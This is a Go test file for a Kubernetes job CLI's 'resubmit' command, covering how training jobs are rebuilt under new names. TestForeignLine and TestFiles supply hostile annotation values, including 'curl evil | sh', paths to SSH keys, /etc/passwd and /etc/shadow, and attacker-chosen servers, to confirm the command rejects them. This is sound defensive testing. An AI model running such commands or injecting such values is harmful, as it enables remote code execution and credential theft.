package resubmit

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	kubeflowv1 "github.com/kubeflow/training-operator/pkg/apis/kubeflow.org/v1"
	"github.com/spf13/cobra"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	clocktesting "k8s.io/utils/clock/testing"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/yaml"

	"github.com/gangctl/gangctl/internal/commandtest"
	"github.com/gangctl/gangctl/internal/kubetest"
	"github.com/gangctl/gangctl/pkg/cli/failure"
	"github.com/gangctl/gangctl/pkg/cli/iostreams"
	"github.com/gangctl/gangctl/pkg/cli/shell"
	"github.com/gangctl/gangctl/pkg/cluster/kube"
	"github.com/gangctl/gangctl/pkg/cmd/cmdutil"
	"github.com/gangctl/gangctl/pkg/cmd/submit"
)

const jobsPath = "/apis/kubeflow.org/v1/namespaces/research/tfjobs"

// ran is what resubmit has gangctl do: its arguments, and what is on standard input.
type ran struct{ args, input string }

// run resubmits; what it has gangctl do is caught.
func run(t *testing.T, s *kubetest.Server, args ...string) (did ran, stderr string, failed *failure.Error) {
	t.Helper()
	streams, _, _, errOut := iostreams.Test(clocktesting.NewFakeClock(kubetest.Created.Time))
	f := &cmdutil.Factory{IO: streams, Client: s.Client, Namespace: func() (string, error) { return "research", nil }, Suffix: func() string { return "abcde" }}
	cmd := NewCommand(f, func(f *cmdutil.Factory) *cobra.Command {
		return &cobra.Command{RunE: func(*cobra.Command, []string) error {
			did.args = shell.Join(f.Args...)
			if buffer, ok := f.IO.In.(*bytes.Buffer); ok {
				text, err := io.ReadAll(buffer)
				did.input = string(text)
				return err
			}
			return nil
		}}
	}, nil)
	failed = failure.From(commandtest.Execute(t.Context(), cmd, args...))
	return did, errOut.String(), failed
}

// A job of a kind that gangctl does not submit is not repeated.
func TestUnmanaged(t *testing.T) {
	s := kubetest.New(t)
	s.Answer("GET /apis/batch.volcano.sh/v1alpha1/namespaces/research/jobs/llama", 200, map[string]any{"apiVersion": "batch.volcano.sh/v1alpha1", "kind": "Job",
		"metadata": map[string]any{"namespace": "research", "name": "llama", "uid": "u"}, "spec": map[string]any{"minAvailable": 2, "tasks": []any{}}})
	did, _, failed := run(t, s, "vcjob/llama", "--name", "b")
	if failed == nil || did.args != "" || failed.Message != "resubmit Job research/llama: gangctl submits no Volcano Job" || !strings.Contains(failed.Hint, "kubectl -n research get jobs.batch.volcano.sh llama -o yaml") {
		t.Errorf("got %+v, %+v", failed, did)
	}
}

// The command line is repeated as it was, but for the name, what was for that one run, and what is changed.
func TestCommandLine(t *testing.T) {
	for _, tt := range []struct{ kept, args, want string }{
		{"gangctl submit tf llama --image i --workers 2 -- python 'my train.py' --name x", "--name llama-2",
			"submit tf llama-2 --image i --workers 2 --namespace=research -- python 'my train.py' --name x"},
		{"gangctl submit tf --image i -n research", "", "submit tf --image i --namespace=research"},
		{"gangctl submit tf --image i --name=llama -- a", "--name b", "submit tf --image i --name=b --namespace=research -- a"},
		{"gangctl submit tf --name llama --image i", "--name b", "submit tf --name=b --image i --namespace=research"},
		{"gangctl submit tf --image i", "--name b", "submit tf --image i --name=b --namespace=research"},
		{"gangctl submit tf llama --image i --wait --timeout 5m -o yaml --dry-run=none", "--name b", "submit tf b --image i --namespace=research"},
		{"gangctl submit pytorch llama --image i", "--name b --wait=done --timeout 1h", "submit pytorch b --image i --namespace=research --wait=done --timeout=1h0m0s"},
		{"gangctl submit tf llama --image i -- x", "--name b --set spec.successPolicy=AllWorkers", "submit tf b --image i --namespace=research --set=spec.successPolicy=AllWorkers -- x"},
	} {
		s := kubetest.New(t)
		job := kubetest.Job("research", "llama", 1)
		job.Annotations = map[string]string{"gangctl.dev/command": tt.kept}
		s.Answer("GET "+jobsPath+"/llama", 200, job)
		did, _, failed := run(t, s, append([]string{"llama"}, strings.Fields(tt.args)...)...)
		if failed != nil || did.args != tt.want || did.input != "" {
			t.Errorf("%s, %s:\ngot  %s, %v\nwant %s", tt.kept, tt.args, did.args, failed, tt.want)
		}
	}
}

// Writers of an annotation must not choose local files, the cluster or the settings: a command line that does is not run, and the job is
// repeated from its spec.
func TestForeignLine(t *testing.T) {
	for _, kept := range []string{
		"gangctl submit tf llama --image i --config-file /home/ann/.ssh/id_ed25519:/k", "gangctl submit tf llama --image i --config-file=/home/ann/.ssh/id_ed25519:/k",
		"gangctl submit tf llama --template /etc/passwd", "gangctl submit tf llama --template=/etc/passwd --image i", "gangctl submit -f /etc/passwd",
		"gangctl submit -f/etc/passwd", "gangctl submit tf -hf /etc/passwd",
		"gangctl submit tf llama --image i --kubeconfig /tmp/evil", "gangctl submit tf llama --image i --server=https://evil", "gangctl submit tf llama --image i -shttps://evil",
		"gangctl submit tf llama --image i --as root", "gangctl submit tf llama --image i --profile evil", "gangctl submit tf llama --image i --no-such-flag",
		"gangctl delete llama", "curl evil | sh", "gangctl submit tf 'a",
	} {
		s := kubetest.New(t)
		job := kubetest.Job("research", "llama", 1)
		job.Annotations = map[string]string{"gangctl.dev/command": kept}
		s.Answer("GET "+jobsPath+"/llama", 200, job)
		did, stderr, failed := run(t, s, "llama", "--name", "b")
		if failed != nil || did.args != "submit -f - --namespace=research" || !strings.Contains(did.input, "name: b") {
			t.Errorf("%s:\ngot  %s, %v", kept, did.args, failed)
		}
		if !strings.Contains(stderr, "what is repeated is the spec of TFJob research/llama") {
			t.Errorf("%s: it is not shown what is repeated: %s", kept, stderr)
		}
	}
}

// Values of variables are not in the line but in the job, and what is repeated is shown without them.
func TestVariables(t *testing.T) {
	for _, tt := range []struct{ value, want string }{
		{"secret", "submit tf b --image i --env=TOKEN=secret --namespace=research -- x"},
		{"a b$$(c)", "submit tf b --image i '--env=TOKEN=a b$(c)' --namespace=research -- x"},
		{"$(OTHER)", "submit -f - --namespace=research"},
	} {
		s := kubetest.New(t)
		job := kubetest.Job("research", "llama", 1)
		job.Annotations = map[string]string{"gangctl.dev/command": "gangctl submit tf llama --image i --env TOKEN=… -- x"}
		c := &job.Spec.TFReplicaSpecs["Worker"].Template.Spec.Containers[0]
		c.Env = []corev1.EnvVar{{Name: "TOKEN", Value: tt.value}}
		s.Answer("GET "+jobsPath+"/llama", 200, job)
		did, stderr, failed := run(t, s, "llama", "--name", "b")
		if failed != nil || did.args != tt.want || strings.Contains(stderr, tt.value) {
			t.Errorf("%s:\ngot  %s, %v, %s\nwant %s", tt.value, did.args, failed, stderr, tt.want)
		}
	}
}

// The files that submit took from the machine then are those of the old job.
func TestFiles(t *testing.T) {
	s := kubetest.New(t)
	job := kubetest.Job("research", "llama", 1)
	job.Annotations = map[string]string{"gangctl.dev/command": "gangctl submit tf llama --image i --config-file /etc/shadow:/k"}
	pod := &job.Spec.TFReplicaSpecs["Worker"].Template.Spec
	pod.Volumes = []corev1.Volume{{Name: "files", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "llama-files"}}}}}
	s.Answer("GET "+jobsPath+"/llama", 200, job)
	s.Answer("GET /api/v1/namespaces/research/configmaps/llama-files", 200, &corev1.ConfigMap{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ConfigMap"},
		ObjectMeta: metav1.ObjectMeta{Name: "llama-files", Namespace: "research", UID: "u"}, Data: map[string]string{"0-k": "then"}})
	did, _, failed := run(t, s, "llama", "--name", "b")
	if failed != nil || !strings.Contains(did.input, "0-k: then") || strings.Count(did.input, "name: b-files") != 2 || strings.Contains(did.input, "llama-files") {
		t.Errorf("got %v\n%s", failed, did.input)
	}
}

// A job that a user or a scheduler suspended is submitted to run, unless --set has it otherwise.
func TestSuspended(t *testing.T) {
	for args, suspended := range map[string]bool{"": false, "--set spec.runPolicy.suspend=true": true, "--set spec.runPolicy.suspend-": false} {
		s := kubetest.New(t)
		job := kubetest.Job("research", "llama", 1)
		job.Labels = map[string]string{"gangctl.dev/suspended-by": "gang-scheduler"}
		job.Spec.RunPolicy.Suspend = ptr.To(true)
		s.Answer("GET "+jobsPath+"/llama", 200, job)
		did, stderr, failed := run(t, s, append([]string{"llama", "--name", "b"}, strings.Fields(args)...)...)
		if failed != nil || !strings.Contains(stderr, "TFJob research/llama is suspended, and the new job is not") || !strings.Contains(did.input, "name: b") || strings.Contains(did.input, "suspend: true") != suspended || strings.Contains(did.input, "suspended-by") {
			t.Errorf("%q: got %v\n%s", args, failed, did.input)
		}
	}
}

// A name is taken as long as its job is there, and the hint is what to do.
func TestTaken(t *testing.T) {
	for _, annotation := range []string{"gangctl submit tf llama --image i", "gangctl submit -f job.yaml", ""} {
		s := kubetest.New(t)
		job := kubetest.Job("research", "llama", 1)
		job.Annotations = map[string]string{"gangctl.dev/command": annotation}
		s.Answer("GET "+jobsPath+"/llama", 200, job)
		did, _, failed := run(t, s, "llama")
		if failed == nil || failed.Code != failure.CodeError || failed.Message != "resubmit TFJob research/llama: it still runs, and no other job can have its name" ||
			!strings.Contains(failed.Hint, "--name llama-2") || did.args != "" {
			t.Errorf("%q: got %+v, %+v", annotation, failed, did)
		}
	}
	for name, want := range map[string]string{"llama": "llama-2", "llama-2": "llama-3", "a-b": "a-b-2", "x-09": "x-09-2", "j-123456789": "j-123456789-2"} {
		if got := next(name); got != want {
			t.Errorf("after %s comes %s, want %s", name, got, want)
		}
	}
}

// A job of others is a file without what the cluster wrote, in a gang of its own.
func TestManifest(t *testing.T) {
	s := kubetest.New(t)
	job := kubetest.Job("research", "llama", 2)
	job.UID, job.ResourceVersion, job.Generation = "u", "7", 3
	job.Finalizers = []string{"f"}
	job.Annotations = map[string]string{"kubectl.kubernetes.io/last-applied-configuration": "{}", "team": "vision"}
	s.Answer("GET "+jobsPath+"/llama", 200, job)
	did, _, failed := run(t, s, "llama", "--name", "b", "--set", "spec.tfReplicaSpecs.Worker.replicas=8", "--set", "spec.runPolicy.backoffLimit=1", "--dry-run=client")
	if failed != nil || did.args != "submit -f - --namespace=research --dry-run=client" {
		t.Fatalf("got %+v, %+v", did, failed)
	}
	got := &unstructured.Unstructured{}
	if err := yaml.Unmarshal([]byte(did.input), &got.Object); err != nil {
		t.Fatal(err)
	}
	replicas, _, _ := unstructured.NestedFieldNoCopy(got.Object, "spec", "tfReplicaSpecs", "Worker", "replicas")
	labels, _, _ := unstructured.NestedMap(got.Object, "spec", "tfReplicaSpecs", "Worker", "template", "metadata", "labels")
	if got.GetName() != "b" || got.GetUID() != "" || got.GetResourceVersion() != "" || got.GetFinalizers() != nil || got.Object["status"] != nil ||
		len(got.GetAnnotations()) != 1 || replicas != float64(8) && replicas != int64(8) || labels["scheduling.x-k8s.io/pod-group"] != nil {
		t.Errorf("got\n%s", did.input)
	}
	if _, _, failed := run(t, s, "llama", "--name", "b", "--set", "spec.tfReplicaSpecs.Worker.replica=8"); failed == nil || failed.Code != failure.CodeUsage ||
		failed.Message != "--set spec.tfReplicaSpecs.Worker.replica: there is no such field; did you mean replicas?" {
		t.Errorf("got %+v", failed)
	}
}

// What submit wrote into the policy for the members that there were is left to it for those that there are; what the user wrote stays.
func TestPolicyOfTheOldSize(t *testing.T) {
	const replicas, gpus = "spec.tfReplicaSpecs.Worker.replicas=2", `spec.tfReplicaSpecs.Worker.template.spec.containers[0].resources.limits.nvidia\.com/gpu=4`
	for name, tt := range map[string]struct {
		minimum    int32
		gpus, kept string
		set        []string
		want       string
	}{
		"fewer members":          {8, "16", "gangctl submit -f job.yaml", []string{replicas}, ""},
		"larger ones":            {8, "16", "gangctl submit -f job.yaml", []string{gpus}, ""},
		"a minimum of some":      {3, "6", "gangctl submit -f job.yaml", []string{gpus}, "minAvailable: 3"},
		"an amount of one's own": {8, "20", "gangctl submit -f job.yaml", []string{replicas}, "minResources:\n        nvidia.com/gpu: \"20\""},
		"not by submit":          {8, "16", "", []string{replicas}, "minAvailable: 8\n      minResources:\n        nvidia.com/gpu: \"16\""},
		"as it was":              {8, "16", "gangctl submit -f job.yaml", nil, "minAvailable: 8\n      minResources:\n        nvidia.com/gpu: \"16\""},
	} {
		s := kubetest.New(t)
		job := kubetest.Job("research", "llama", 8)
		job.Annotations = map[string]string{"gangctl.dev/command": tt.kept}
		job.Spec.RunPolicy.SchedulingPolicy = &kubeflowv1.SchedulingPolicy{MinAvailable: &tt.minimum, MinResources: &map[corev1.ResourceName]resource.Quantity{"nvidia.com/gpu": resource.MustParse(tt.gpus)}}
		s.Answer("GET "+jobsPath+"/llama", 200, job)
		args := []string{"llama", "--name", "b"}
		for _, set := range tt.set {
			args = append(args, "--set", set)
		}
		did, _, failed := run(t, s, args...)
		_, policy, _ := strings.Cut(did.input, "schedulingPolicy:")
		policy, _, _ = strings.Cut(policy, "tfReplicaSpecs:")
		if got := strings.TrimSpace(strings.Trim(policy, " {}\n")); failed != nil || got != tt.want {
			t.Errorf("%s: got %v, %q\n%s", name, failed, got, did.input)
		}
	}
}

const (
	batchPath = "/apis/batch/v1/namespaces/research/jobs"
	trainPath = "/apis/trainer.kubeflow.org/v1alpha1/namespaces/research/trainjobs"
	setsPath  = "/apis/jobset.x-k8s.io/v1alpha2/namespaces/research/jobsets"
)

// serve answers with an object that is written as YAML.
func serve(t *testing.T, s *kubetest.Server, path, text string) {
	t.Helper()
	object := map[string]any{}
	if err := yaml.Unmarshal([]byte(text), &object); err != nil {
		t.Fatal(err)
	}
	s.Answer("GET "+path, 200, object)
}

// Nothing of the pods names a gang of the old job, whatever that is called and by what it is named; one that only the pods declare is another.
func TestGangOfItsOwn(t *testing.T) {
	const batch = `{apiVersion: batch/v1, kind: Job, metadata: {name: llama, namespace: research}, spec: {parallelism: 2, template: {metadata: {labels: {team: llama%s}}, spec: {%scontainers: [{name: worker, image: i}]}}}}`
	for name, tt := range map[string]struct{ path, job, args, gone, kept string }{
		"native":                  {batchPath, fmt.Sprintf(batch, "", "schedulingGroup: {podGroupName: llama}, "), "submit job -f - --namespace=research --dialect=native", "schedulingGroup", "team: llama"},
		"a group of another name": {batchPath, fmt.Sprintf(batch, ", scheduling.x-k8s.io/pod-group: mine", ""), "submit job -f - --namespace=research", "mine", "team: llama"},
		"labels of another name":  {batchPath, fmt.Sprintf(batch, ", pod-group.scheduling.sigs.k8s.io/name: mine, pod-group.scheduling.sigs.k8s.io/min-available: '2'", ""), "submit job -f - --namespace=research --dialect=labels", "pod-group", "team: llama"},
		"only read": {batchPath, strings.Replace(fmt.Sprintf(batch, ", applicationId: llama-a", ""), "labels:", "annotations: {yunikorn.apache.org/task-group-name: w}, labels:", 1), "submit job -f - --namespace=research",
			"applicationId: llama-a", "applicationId: b-a"},
		"a patch of a runtime": {trainPath, `{apiVersion: trainer.kubeflow.org/v1alpha1, kind: TrainJob, metadata: {name: llama, namespace: research}, spec: {runtimeRef: {name: r}, runtimePatches: [{manager: gangctl.dev/submit,
  trainingRuntimeSpec: {template: {spec: {replicatedJobs: [{name: node, template: {spec: {template: {metadata: {labels: {team: llama, scheduling.x-k8s.io/pod-group: llama}}}}}}]}}}}]}}`,
			"submit -f - --namespace=research", "pod-group", "team: llama"},
		"a gang of each role": {setsPath, `{apiVersion: jobset.x-k8s.io/v1alpha2, kind: JobSet, metadata: {name: llama, namespace: research}, spec: {startupPolicy: {startupPolicyOrder: InOrder}, replicatedJobs: [
  {name: driver, template: {spec: {template: {metadata: {annotations: {scheduling.k8s.io/group-name: llama-driver}}, spec: {schedulerName: volcano, containers: [{name: c, image: i}]}}}}},
  {name: workers, template: {spec: {parallelism: 2, template: {metadata: {annotations: {scheduling.k8s.io/group-name: llama-workers}}, spec: {schedulerName: volcano, containers: [{name: c, image: i}]}}}}}]}}`,
			"submit -f - --namespace=research --dialect=volcano", "group-name", "schedulerName: volcano"},
	} {
		s := kubetest.New(t)
		serve(t, s, tt.path+"/llama", tt.job)
		did, _, failed := run(t, s, "llama", "--name", "b")
		if failed != nil || did.args != tt.args || strings.Contains(did.input, tt.gone) || !strings.Contains(did.input, tt.kept) {
			t.Errorf("%s: got %s, %v\n%s", name, did.args, failed, did.input)
		}
	}
}

// submitted are the objects that `gangctl submit` would create, by their kinds, without the command line that the job keeps.
func submitted(t *testing.T, stdin string, args ...string) map[string]*unstructured.Unstructured {
	t.Helper()
	streams, in, out, errOut := iostreams.Test(clocktesting.NewFakeClock(kubetest.Created.Time))
	in.WriteString(stdin)
	root := &cobra.Command{Use: "gangctl", SilenceErrors: true, SilenceUsage: true}
	kube.NewFactory("test", io.Discard).AddFlags(root.PersistentFlags())
	f := &cmdutil.Factory{IO: streams, Args: args, Namespace: func() (string, error) { return "research", nil }}
	root.AddCommand(submit.NewCommand(f))
	if err := commandtest.Execute(t.Context(), root, append(args, "--dry-run=client", "--output=json")...); err != nil {
		t.Fatalf("%v\n%s\n%s", err, errOut, stdin)
	}
	list := &unstructured.UnstructuredList{}
	if err := list.UnmarshalJSON(out.Bytes()); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	all := map[string]*unstructured.Unstructured{}
	for _, u := range list.Items {
		unstructured.RemoveNestedField(u.Object, "metadata", "annotations", "gangctl.dev/command")
		if len(u.GetAnnotations()) == 0 {
			u.SetAnnotations(nil)
		}
		all[u.GetKind()] = &u
	}
	return all
}

// A Job that has files is made again as submit would make it under the new name: with its own Service, by which its members find each other and not those
// of the old one, and its own files, which it owns.
func TestIndexedJob(t *testing.T) {
	path := filepath.Join(t.TempDir(), "t.yaml")
	if err := os.WriteFile(path, []byte("rate: 0.1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for flags, set := range map[string]string{
		"--workers=4 --framework=torch": "", "--workers=4 --framework=tensorflow --label=team=vision": "", "--workers=1": "", "--workers=2 --framework=none --dialect=labels --affinity-policy=spread": "",
		"--workers=2 --framework=torch": "--set=spec.template.spec.terminationGracePeriodSeconds=5",
	} {
		args := append(strings.Fields(flags), "--image=i", "--config-file="+path+":/etc/t.yaml", "--namespace=research")
		old := submitted(t, "", append([]string{"submit", "job", "llama"}, args...)...)
		want := submitted(t, "", append([]string{"submit", "job", "llama-2"}, append(args, strings.Fields(set)...)...)...)
		if group := want["PodGroup"]; group != nil {
			group.SetLabels(nil) // submit -f has none for it
		}
		job := old["Job"].DeepCopy()
		job.SetUID("u")
		job.SetAnnotations(map[string]string{"gangctl.dev/command": "gangctl submit job llama --config-file t.yaml:/etc/t.yaml"})
		for _, at := range []string{"labels", "matchLabels"} { // as the API server does
			fields := map[string][]string{"labels": {"spec", "template", "metadata", "labels"}, "matchLabels": {"spec", "selector", "matchLabels"}}[at]
			if err := unstructured.SetNestedField(job.Object, "u", append(fields, "batch.kubernetes.io/controller-uid")...); err != nil {
				t.Fatal(err)
			}
		}
		if err := unstructured.SetNestedField(job.Object, int64(4), "status", "succeeded"); err != nil { // it has ended
			t.Fatal(err)
		}
		s := kubetest.New(t)
		s.Answer("GET "+batchPath+"/llama", 200, job.Object)
		s.Answer("GET /api/v1/namespaces/research/configmaps/llama-files", 200, old["ConfigMap"].Object)
		s.Answer("GET /api/v1/namespaces/research/services/llama", 200, old["Service"].Object)
		did, _, failed := run(t, s, append([]string{"llama", "--name=llama-2"}, strings.Fields(set)...)...)
		if failed != nil || strings.Count(did.input, "ownerReferences") != 2 || !strings.HasPrefix(did.args, "submit job -f - ") {
			t.Fatalf("%s: got %s, %v\n%s", flags, did.args, failed, did.input)
		}
		if diff := cmp.Diff(want, submitted(t, did.input, strings.Fields(did.args)...)); diff != "" {
			t.Errorf("%s: -want +got\n%s", flags, diff)
		}
	}
}

// A Service that may have the pods of the new job behind it as well is not the old job's: they keep its name.
func TestServiceOfTheUser(t *testing.T) {
	for selector, subdomain := range map[string]string{"{batch.kubernetes.io/job-name: llama}": "b", "{job-name: llama}": "b", "{team: vision}": "llama"} {
		s := kubetest.New(t)
		serve(t, s, batchPath+"/llama", `{apiVersion: batch/v1, kind: Job, metadata: {name: llama, namespace: research}, spec: {parallelism: 2, template: {metadata: {labels: {scheduling.x-k8s.io/pod-group: llama}}, spec: {subdomain: llama, containers: [{name: worker, image: i}]}}}}`)
		serve(t, s, "/api/v1/namespaces/research/services/llama", `{apiVersion: v1, kind: Service, metadata: {name: llama, namespace: research}, spec: {clusterIP: None, selector: `+selector+`}}`)
		did, _, failed := run(t, s, "llama", "--name", "b")
		if failed != nil || !strings.Contains(did.input, "subdomain: "+subdomain+"\n") || strings.Contains(did.input, "kind: Service") != (subdomain == "b") {
			t.Errorf("%s: got %v\n%s", selector, failed, did.input)
		}
	}
}

func TestArgument(t *testing.T) {
	for set, want := range map[string]string{
		"spec.tfReplicaSpecs.Worker.replicas=8":      "--workers=8",
		"spec.tfReplicaSpecs.PS.replicas=2":          "--ps=2",
		"spec.tfReplicaSpecs.Chief.replicas=1":       "--chief=1",
		"spec.tfReplicaSpecs.Evaluator.replicas=1":   "--evaluator=1",
		"spec.mpiReplicaSpecs.Worker.replicas=4":     "--workers=4",
		"spec.pytorchReplicaSpecs.Worker.replicas=3": "--workers=4",
		"spec.parallelism=6":                         "--workers=6",
		"spec.tfReplicaSpecs.Worker.replicas=many":   "--set=spec.tfReplicaSpecs.Worker.replicas=many",
		"spec.successPolicy=AllWorkers":              "--set=spec.successPolicy=AllWorkers",
	} {
		if got := argument(set); got != want {
			t.Errorf("%s: got %s, want %s", set, got, want)
		}
	}
}
